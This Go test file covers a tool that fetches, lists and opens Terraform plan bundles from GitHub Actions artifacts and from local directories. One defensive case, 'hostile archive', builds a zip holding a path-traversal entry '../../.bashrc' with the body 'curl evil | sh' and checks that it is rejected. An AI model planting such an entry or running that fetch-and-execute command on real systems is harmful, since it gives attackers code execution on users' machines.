package bundle

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/tfgate/tfgate/internal/github"
	"github.com/tfgate/tfgate/internal/github/githubtest"
)

var testRepo = github.Repo{Owner: "acme", Name: "infra"}

// fakeArtifacts is an ArtifactAPI serving fixed artifacts, for archives githubtest would
// not build.
type fakeArtifacts struct {
	list        []github.Artifact
	zips        map[int64][]byte
	listErr     error
	downloadErr error
	asked       []string // names listed
	downloaded  []int64
}

func (f *fakeArtifacts) ListArtifacts(_ context.Context, repo github.Repo, name string, runID int64) ([]github.Artifact, error) {
	if repo != testRepo || runID != 0 {
		return nil, errors.New("unexpected repo or run")
	}
	f.asked = append(f.asked, name)
	// As GitHub describes them: uploaded by a run of the repository itself for testCommit,
	// unless a case says otherwise.
	out := make([]github.Artifact, len(f.list))
	for i, a := range f.list {
		if a.RepositoryID == 0 {
			a.RepositoryID, a.HeadRepositoryID = 1, 1
		}
		if a.HeadSHA == "" {
			a.HeadSHA = testCommit
		}
		out[i] = a
	}
	return out, f.listErr
}

func (f *fakeArtifacts) DownloadArtifact(_ context.Context, _ github.Repo, id int64) ([]byte, error) {
	f.downloaded = append(f.downloaded, id)
	if f.downloadErr != nil {
		return nil, f.downloadErr
	}
	return f.zips[id], nil
}

func TestGitHubStore(t *testing.T) {
	day := time.Date(2024, 5, 1, 0, 0, 0, 0, time.UTC)
	name := "tfgate-plan-" + testCommit
	good := uploadLayout(t)
	apiDown := errors.New("GitHub answered 502")
	tests := []struct {
		name         string
		api          fakeArtifacts
		want         Want
		wantID       int64
		kind         error
		msg          []string
		wantAsked    string
		wantNoDownld bool
	}{
		{name: "newest unexpired", want: Want{PR: 7, HeadSHA: testCommit}, wantID: 3, wantAsked: name,
			api: fakeArtifacts{list: []github.Artifact{
				{ID: 1, Name: name, CreatedAt: day},
				{ID: 4, Name: name, CreatedAt: day.Add(3 * time.Hour), Expired: true},
				{ID: 3, Name: name, CreatedAt: day.Add(2 * time.Hour)},
				{ID: 2, Name: name, CreatedAt: day.Add(time.Hour)},
				{ID: 9, Name: name + "-other", CreatedAt: day.Add(9 * time.Hour)},
			}, zips: map[int64][]byte{3: good}}},
		{name: "artifact name given", want: Want{HeadSHA: testCommit, ArtifactName: "my-plan"}, wantID: 5, wantAsked: "my-plan",
			api: fakeArtifacts{list: []github.Artifact{{ID: 5, Name: "my-plan", CreatedAt: day}}, zips: map[int64][]byte{5: good}}},
		{name: "missing", want: Want{PR: 7, HeadSHA: testCommit}, kind: ErrNoBundle, wantAsked: name, wantNoDownld: true,
			msg: []string{`no plan artifact "` + name + `" in acme/infra for commit 0123456789ab of pull request #7`, "the plan workflow must run (again)"}},
		{name: "expired", want: Want{HeadSHA: testCommit}, kind: ErrNoBundle, wantNoDownld: true,
			api: fakeArtifacts{list: []github.Artifact{{ID: 1, Name: name, Expired: true}}},
			msg: []string{"has expired (the repository's artifact retention): a new plan is needed"}},
		{name: "list fails", want: Want{HeadSHA: testCommit}, kind: apiDown, wantNoDownld: true,
			api: fakeArtifacts{listErr: apiDown}, msg: []string{`look for plan artifact "` + name + `"`}},
		{name: "download fails", want: Want{HeadSHA: testCommit}, kind: apiDown,
			api: fakeArtifacts{list: []github.Artifact{{ID: 1, Name: name}}, downloadErr: apiDown}, msg: []string{"(id 1)"}},
		{name: "hostile archive", want: Want{HeadSHA: testCommit}, kind: ErrUnsafeArchive,
			api: fakeArtifacts{list: []github.Artifact{{ID: 1, Name: name, RunID: 42}},
				zips: map[int64][]byte{1: zipOf(t, entry{name: "../../.bashrc", body: "curl evil | sh"})}},
			msg: []string{`plan artifact "` + name + `" (id 1, run 42)`, `entry "../../.bashrc"`}},
		{name: "nothing to look for", want: Want{}, kind: nil, msg: []string{"no commit SHA or artifact name"}, wantNoDownld: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			api := tt.api
			s := GitHubStore(&api, testRepo)
			dest := filepath.Join(t.TempDir(), "fetched")
			got, err := s.Fetch(context.Background(), tt.want, dest)
			if tt.wantAsked != "" && (len(api.asked) != 1 || api.asked[0] != tt.wantAsked) {
				t.Errorf("listed %q, want %q", api.asked, tt.wantAsked)
			}
			if tt.wantNoDownld && len(api.downloaded) > 0 {
				t.Errorf("downloaded %v", api.downloaded)
			}
			if len(tt.msg) > 0 || tt.kind != nil {
				if err == nil || (tt.kind != nil && !errors.Is(err, tt.kind)) {
					t.Fatalf("Fetch = %v, want %v", err, tt.kind)
				}
				for _, m := range tt.msg {
					if !strings.Contains(err.Error(), m) {
						t.Errorf("error %q does not say %q", err, m)
					}
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if len(api.downloaded) != 1 || api.downloaded[0] != tt.wantID {
				t.Errorf("downloaded %v, want [%d]", api.downloaded, tt.wantID)
			}
			dirs, err := List(context.Background(), got)
			if err != nil || len(dirs) != 2 || filepath.Base(dirs[0]) != "envs_dev_app" {
				t.Errorf("List of the fetched dir = %v, %v", dirs, err)
			}
			if s.String() != "GitHub artifact "+tt.wantAsked {
				t.Errorf("String() = %q after fetching %q", s.String(), tt.wantAsked)
			}
		})
	}
	t.Run("dest not empty", func(t *testing.T) {
		api := fakeArtifacts{list: []github.Artifact{{ID: 1, Name: name}}, zips: map[int64][]byte{1: good}}
		dest := t.TempDir()
		os.WriteFile(filepath.Join(dest, "stale"), nil, 0o600)
		if _, err := GitHubStore(&api, testRepo).Fetch(context.Background(), Want{HeadSHA: testCommit}, dest); err == nil || !strings.Contains(err.Error(), "not empty") {
			t.Fatalf("Fetch into a non-empty dest: %v", err)
		}
	})
}

// TestGitHubStoreEndToEnd seals a bundle, uploads it as upload-artifact would to the fake
// GitHub, and fetches, lists and opens it through the real client.
func TestGitHubStoreEndToEnd(t *testing.T) {
	ctx := context.Background()
	out := t.TempDir()
	dir := filepath.Join(out, DirName("envs/dev/app", "default"))
	writeBundle(t, dir, []byte("plan"), testManifest())
	if err := Seal(ctx, dir, testKey); err != nil {
		t.Fatal(err)
	}
	files := map[string]string{}
	for _, f := range []string{ManifestFile, SealedFile} {
		data, _ := os.ReadFile(filepath.Join(dir, f))
		files[filepath.Base(dir)+"/"+f] = string(data)
	}
	srv := githubtest.New(t)
	old := srv.AddArtifact(testRepo.String(), 11, "tfgate-plan-"+testCommit, map[string]string{"old/manifest.json": "{}"})
	id := srv.AddArtifact(testRepo.String(), 12, "tfgate-plan-"+testCommit, files)
	srv.SetArtifactOrigin(testRepo.String(), old, testCommit, false)
	srv.SetArtifactOrigin(testRepo.String(), id, testCommit, false)
	c, err := github.New(github.Options{BaseURL: srv.URL(), Token: githubtest.InstallationToken, Backoff: time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	store := GitHubStore(c, testRepo)
	got, err := store.Fetch(ctx, Want{PR: 7, HeadSHA: testCommit}, filepath.Join(t.TempDir(), "fetched"))
	if err != nil {
		t.Fatal(err)
	}
	dirs, err := List(ctx, got)
	if err != nil || len(dirs) != 1 {
		t.Fatalf("List = %v, %v", dirs, err)
	}
	o, err := Open(ctx, dirs[0], testKey, scratchDir(t))
	if err != nil {
		t.Fatal(err)
	}
	if data, _ := os.ReadFile(o.PlanPath); string(data) != "plan" || o.Manifest.Commit != testCommit {
		t.Fatalf("opened %q of %+v", data, o.Manifest)
	}
}

func TestDirStore(t *testing.T) {
	dir := t.TempDir()
	s := DirStore(dir)
	if got, err := s.Fetch(context.Background(), Want{}, "unused"); err != nil || got != dir {
		t.Fatalf("Fetch = %q, %v", got, err)
	}
	if DirStore("plans").String() != "directory plans/" {
		t.Errorf("String() = %q", DirStore("plans").String())
	}
	missing := filepath.Join(dir, "missing")
	if _, err := DirStore(missing).Fetch(context.Background(), Want{}, ""); !errors.Is(err, ErrNoBundle) || !strings.Contains(err.Error(), missing) {
		t.Errorf("Fetch of a missing dir: %v", err)
	}
	file := filepath.Join(dir, "file")
	os.WriteFile(file, nil, 0o600)
	if _, err := DirStore(file).Fetch(context.Background(), Want{}, ""); err == nil || !strings.Contains(err.Error(), "not a directory") {
		t.Errorf("Fetch of a file: %v", err)
	}
}

func TestList(t *testing.T) {
	ctx := context.Background()
	out := t.TempDir()
	for _, d := range []string{"b", "a", "c"} {
		writeBundle(t, filepath.Join(out, d), []byte("plan"), testManifest())
	}
	os.Mkdir(filepath.Join(out, "not-a-bundle"), 0o700)
	os.Mkdir(filepath.Join(out, ".hidden"), 0o700)
	os.WriteFile(filepath.Join(out, ".hidden", ManifestFile), nil, 0o600)
	os.WriteFile(filepath.Join(out, "stray.txt"), nil, 0o600)
	os.Symlink(filepath.Join(out, "a"), filepath.Join(out, "link"))
	got, err := List(ctx, out)
	want := []string{filepath.Join(out, "a"), filepath.Join(out, "b"), filepath.Join(out, "c")}
	if err != nil || strings.Join(got, ",") != strings.Join(want, ",") {
		t.Fatalf("List = %v, %v; want %v", got, err, want)
	}

	// One bundle passed directly is that bundle.
	if got, err := List(ctx, filepath.Join(out, "a")); err != nil || len(got) != 1 || got[0] != filepath.Join(out, "a") {
		t.Errorf("List of one bundle = %v, %v", got, err)
	}
	// A bundle that also holds bundles is ambiguous.
	writeBundle(t, filepath.Join(out, "a", "nested"), []byte("plan"), testManifest())
	if _, err := List(ctx, filepath.Join(out, "a")); err == nil || !strings.Contains(err.Error(), "is one bundle") {
		t.Errorf("List of a bundle holding bundles: %v", err)
	}
	if got, err := List(ctx, t.TempDir()); err != nil || len(got) != 0 {
		t.Errorf("List of an empty dir = %v, %v", got, err)
	}
	if _, err := List(ctx, filepath.Join(out, "missing")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("List of a missing dir: %v", err)
	}
}
